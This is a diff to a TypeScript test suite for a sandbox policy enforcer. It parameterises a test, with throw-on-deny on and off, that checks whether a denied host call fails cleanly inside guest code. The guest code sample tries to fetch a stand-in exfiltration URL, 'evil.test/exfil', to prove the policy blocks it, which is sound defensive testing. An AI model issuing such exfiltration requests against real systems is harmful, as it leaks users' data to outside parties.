@@ -34,9 +34,9 @@ rule cards_stay_out on result
 const pool = createSandboxPool({ size: 1 });
 afterAll(() => pool.close());
 
-async function enforcerWith(): Promise<{ enforcer: Enforcer; file: string }> {
+async function enforcerWith(throwOnDeny = true): Promise<{ enforcer: Enforcer; file: string }> {
   const file = join(mkdtempSync(join(tmpdir(), "armor-sandbox-")), "audit.jsonl");
-  return { enforcer: await createEnforcer({ policy: { fileName: "sandbox.armor", source: POLICY }, audit: { file } }), file };
+  return { enforcer: await createEnforcer({ policy: { fileName: "sandbox.armor", source: POLICY }, audit: { file }, throwOnDeny }), file };
 }
 
 const records = (file: string) =>
@@ -85,8 +85,9 @@ describe("runCode", () => {
     expect(records(file)).toEqual(["decision run_code deny"]);
   });
 
-  it("a host call the policy denies fails inside the code, which may carry on", async () => {
-    const { enforcer, file } = await enforcerWith();
+  // an enforcer that answers denials rather than throwing them (the gateway's) gives the guest the same error
+  it.each([[true], [false]])("a host call the policy denies fails inside the code, which may carry on (throwOnDeny %s)", async (throwOnDeny) => {
+    const { enforcer, file } = await enforcerWith(throwOnDeny);
     let ran = false;
     const host = { fetch: { type: "http_get", action: ([url]: unknown[]) => ({ url }), run: () => (ran = true) } };
     const code = 'try { await fetch("https://evil.test/exfil") } catch (e) { console.log("refused: " + e.message) } return "done"';
